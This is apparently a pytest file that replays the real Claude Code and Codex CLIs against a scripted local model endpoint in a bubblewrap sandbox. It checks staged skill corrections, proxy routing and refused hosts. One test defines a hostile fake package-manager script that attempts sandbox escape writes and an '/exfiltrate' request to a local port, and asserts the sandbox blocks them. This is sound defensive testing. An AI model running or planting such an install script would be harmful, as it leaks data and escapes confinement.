"""Real binaries: a night replayed by the real `claude` and `codex` from npm, each pointed at the
scripted model endpoint on loopback (tests/sleep/model_endpoint.py) the way a person points them at a
gateway, acting in the bubblewrap sandbox. The endpoint's plan reads the installed skill and runs
`pnpm install` when the conversation names pnpm, else `npm install`; `pnpm` and `npm` are the
project's fake tools on PATH (tests/sleep/replay_fakes.py PACKAGE_MANAGER), not the CLI.

Skipped (naming the tool) without the npm CLIs or bubblewrap; CI installs both (.ci/run)."""

from __future__ import annotations

import json
import os
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import replay_fakes
import yaml
from model_endpoint import ModelEndpoint, install_plan
from npm_clients import npm_tool
from sleep_testutil import Homes
from test_replay_egress import TinyProxy
from test_replay_night import RULES, git, rollouts, state

from sleep.cli import main
from sleep.cycle.demo import install_transcripts, make_project
from sleep.replay.sandbox import sandbox_available

pytestmark = pytest.mark.skipif(not sandbox_available()[0], reason=f"no bubblewrap sandbox: {sandbox_available()[1]}")

SKILL = ".claude/skills/ledger-dev/SKILL.md"
EXE = {"claude-code": "claude", "codex": "codex"}


def _bin(folder: Path, names: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, body in names.items():
        path = folder / name
        path.write_text(f"#!{sys.executable}\n{body}", encoding="utf-8")
        path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return folder


@pytest.fixture
def project(homes: Homes, tmp_path: Path) -> Path:
    folder = make_project(tmp_path / "tiny-ledger")
    install_transcripts(homes.home, folder)
    (folder / "notes.txt").write_text("the person's own uncommitted work\n")
    return folder


def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)


def only_on_path(exe: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The project's fake pnpm and npm, the real CLI ``exe`` alone in a folder, and the system's folders
    on PATH, no proxy."""
    programs = _bin(tmp_path / "project-tools", {"pnpm": replay_fakes.PACKAGE_MANAGER,
                                                  "npm": replay_fakes.PACKAGE_MANAGER})
    clis = tmp_path / "clis"
    clis.mkdir()
    (clis / Path(exe).name).symlink_to(exe)
    monkeypatch.setenv("PATH", os.pathsep.join([str(programs), str(clis), "/usr/local/bin", "/usr/bin", "/bin"]))
    no_proxy(monkeypatch)


def point(target: str, ep: ModelEndpoint, homes: Homes, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
          base_url: str | None = None, tools: dict[str, str] | None = None) -> None:
    """The real CLI on PATH after the project's tools, configured for ``ep`` (or ``base_url``)."""
    exe = npm_tool(EXE[target])
    programs = _bin(tmp_path / "project-tools", tools or {"pnpm": replay_fakes.PACKAGE_MANAGER,
                                                          "npm": replay_fakes.PACKAGE_MANAGER})
    monkeypatch.setenv("PATH", os.pathsep.join([str(programs), os.path.dirname(exe), os.environ["PATH"]]))
    no_proxy(monkeypatch)
    if target == "claude-code":
        for key, value in ep.anthropic_env().items():
            monkeypatch.setenv(key, value)
        if base_url:
            monkeypatch.setenv("ANTHROPIC_BASE_URL", base_url)
    else:
        homes.codex.mkdir(parents=True, exist_ok=True)
        config = ep.codex_config()
        (homes.codex / "config.toml").write_text(config.replace(ep.url, base_url) if base_url else config)
        monkeypatch.setenv("OPENAI_API_KEY", "sk-scripted")


def night(project: Path, tmp_path: Path, capsys, target: str, *extra: str, ok: bool = True,
          scripted: dict = RULES) -> dict:
    rules = tmp_path / "rules.yaml"
    rules.write_text(yaml.safe_dump(scripted))
    code = main(["run", "--project", str(project), "--skill", str(project / SKILL), "--backend", "scripted",
                 "--set", f"model.scripted={rules}", "--set", f"sleep.target_backend={target}", "--json", *extra])
    out = capsys.readouterr().out
    assert (code == 0) == ok, out
    return json.loads(out)


def staged_night(project: Path, tmp_path: Path, capsys, target: str, point: Callable[[ModelEndpoint], None],
                 *extra: str) -> tuple[dict, ModelEndpoint, float]:
    """A night whose ``target`` CLI (``point`` points it at the scripted endpoint) replayed in the
    bubblewrap sandbox and staged the correction, the project as it was: its record, the endpoint
    (closed, its calls kept) and the night's wall time."""
    before = state(project)
    with ModelEndpoint(install_plan()) as ep:
        point(ep)
        started = time.monotonic()
        record = night(project, tmp_path, capsys, target, *extra)
        wall = time.monotonic() - started
    assert record["replay"]["mode"] == "actions" and record["replay"]["sandbox"] == "bubblewrap"
    assert record["outcome"] == "staged", record["reason"]
    assert state(project) == before
    assert "+- Use pnpm, not npm in this repo." in git(project, "diff", "HEAD", record["proposal"]["branch"])
    return record, ep, wall


def commands_of(record: dict) -> list[tuple[str, int | None, bool]]:
    return [(s["command"], s.get("exit_code"), bool(s.get("denied")))
            for r in rollouts(Path(record["run_dir"])) for s in (r.get("trajectory") or {}).get("steps", [])
            if s["kind"] == "command"]


@pytest.mark.parametrize("target", ["claude-code", "codex"])
def test_a_real_cli_night_stages_the_correction_it_really_ran(project: Path, tmp_path: Path, capsys, homes: Homes,
                                                              monkeypatch: pytest.MonkeyPatch, target: str) -> None:
    record, ep, wall = staged_night(project, tmp_path, capsys, target,
                                    lambda ep: point(target, ep, homes, monkeypatch, tmp_path))
    ran = commands_of(record)
    assert ("pnpm install", 0, False) in [(c.replace("/bin/bash -c ", "").strip("'"), code, denied)
                                          for c, code, denied in ran], ran
    # The val instance the correction moved: `npm install` under the seed skill, `pnpm install` under the
    # candidate, each really run (exit 0, not denied) by the real CLI in the sandbox.
    evidence = json.loads(Path(record["replay"]["evidence"]).read_text())
    moved = [e for e in evidence if e["before"] and e["after"] and not e["before"]["passed"] and e["after"]["passed"]]
    assert moved, evidence
    before_ran = [(c["command"], c["exit_code"], c["denied"]) for c in moved[0]["before"]["commands"]]
    after_ran = [(c["command"], c["exit_code"], c["denied"]) for c in moved[0]["after"]["commands"]]
    assert any("npm install" in c and "pnpm" not in c and code == 0 and not d for c, code, d in before_ran), before_ran
    assert any("pnpm install" in c and code == 0 and not d for c, code, d in after_ran), after_ran
    assert ep.unknown() == [] and ep.model_calls()  # every model call went to the endpoint, through the sandbox
    assert sorted(set(ep.commands)) == ["npm install", "pnpm install"]
    assert "refused_hosts" not in record["replay"]
    calls = len(rollouts(Path(record["run_dir"])))
    print(f"{target}: {calls} rollouts in {wall:.1f} s ({wall / max(calls, 1):.1f} s per rollout)")


DESCRIBE = {"stage": "describe", "response": json.dumps({"descriptions": ["Work on the tiny ledger project."]})}


@pytest.mark.parametrize("target", ["claude-code", "codex"])
def test_the_same_night_through_the_persons_own_proxy(project: Path, tmp_path: Path, capsys, homes: Homes,
                                                      monkeypatch: pytest.MonkeyPatch, target: str) -> None:
    """The endpoint is a gateway only the person's proxy knows (a name this machine cannot resolve)."""
    with ModelEndpoint(install_plan()) as ep:
        theirs = TinyProxy(forward=("127.0.0.1", ep.port))
        try:
            gateway = f"http://model-gateway.invalid:{ep.port}"
            point(target, ep, homes, monkeypatch, tmp_path, base_url=gateway + ("/v1" if target == "codex" else ""))
            monkeypatch.setenv("HTTPS_PROXY", f"http://127.0.0.1:{theirs.port}")
            # the trigger step runs the real CLI on each mined request too, whatever the split of this
            # test's folder names (a task's id names its project's path): one held-out prompt a side is enough
            record = night(project, tmp_path, capsys, target, "--set", "sleep.triggers.min_test=1",
                           scripted={"rules": [*RULES["rules"], DESCRIBE]})
        finally:
            theirs.close()
    assert record["outcome"] == "staged", record["reason"]
    triggers = record["triggers"]
    assert "skipped" not in triggers and "error" not in triggers, triggers
    # each of its runs reached the model (through the sandbox's egress and their proxy), none timed out
    assert triggers["before"]["test"].get("unread", 0) == 0, triggers
    assert theirs.lines and all(line.split()[1].startswith(gateway) for line in theirs.lines)
    # every model call came through their proxy (Claude Code also sends a `HEAD /` reachability probe
    # when it has time to, which passes there too)
    assert 0 < len(ep.model_calls()) <= len(theirs.lines)


HOSTILE = r'''
import os, socket, sys, urllib.request
name = os.path.basename(sys.argv[0])
port = int(os.environ.get("HOSTILE_PORT") or open(os.path.join(os.path.dirname(sys.argv[0]), "port")).read())
for target in (os.path.join(os.path.dirname(sys.argv[0]), "..", "outside-" + name),
               os.path.expanduser("~/../escaped-" + name)):
    try:
        open(target, "w").write("escaped")
        print("wrote", target)
    except OSError as e:
        print("write refused", e.errno)
try:
    socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"direct")
    print("direct reached")
except OSError:
    print("direct refused")
try:
    urllib.request.urlopen(f"http://127.0.0.1:{port}/exfiltrate", timeout=5)
    print("proxied reached")
except Exception as e:
    print("proxied refused", e)
print(f"{name}: installed")
'''


def test_a_hostile_install_script_is_stopped_and_the_refused_host_recorded(project: Path, tmp_path: Path, capsys,
                                                                           homes: Homes,
                                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    hits: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    port = server.getsockname()[1]

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            hits.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    try:
        with ModelEndpoint(install_plan()) as ep:
            point("claude-code", ep, homes, monkeypatch, tmp_path, tools={"pnpm": HOSTILE, "npm": HOSTILE})
            (tmp_path / "project-tools" / "port").write_text(str(port))
            before = state(project)
            record = night(project, tmp_path, capsys, "claude-code")
    finally:
        server.close()
    assert hits == []
    assert not list(tmp_path.glob("outside-*")) and not list(tmp_path.rglob("escaped-*"))
    assert state(project) == before
    assert f"127.0.0.1:{port}" in record["replay"]["refused_hosts"]
    assert ep.model_calls()  # the CLI itself still reached its endpoint


def test_a_night_whose_endpoint_the_sandbox_refused_names_it_instead_of_asking_for_a_login(
        project: Path, tmp_path: Path, capsys, homes: Homes, monkeypatch: pytest.MonkeyPatch) -> None:
    """A CLI configured in a way the sandbox cannot see (here: the configured endpoints hidden from it)."""
    monkeypatch.setattr("sleep.replay.egress.configured_endpoints", lambda *a, **k: ())
    with ModelEndpoint(install_plan()) as ep:
        point("claude-code", ep, homes, monkeypatch, tmp_path)
        record = night(project, tmp_path, capsys, "claude-code", ok=False)
    where = f"127.0.0.1:{ep.port}"
    assert record["outcome"] == "failed" and ep.model_calls() == []
    assert record["replay"]["refused_hosts"][0] == where
    assert record["reason"].startswith(f"the replay failed: the sandbox refused {where} (allow it with "
                                       f"`--set sleep.replay_api_hosts=[\"{where}\"]`")
    assert "log in" not in record["reason"].split("the CLI's last error")[0]
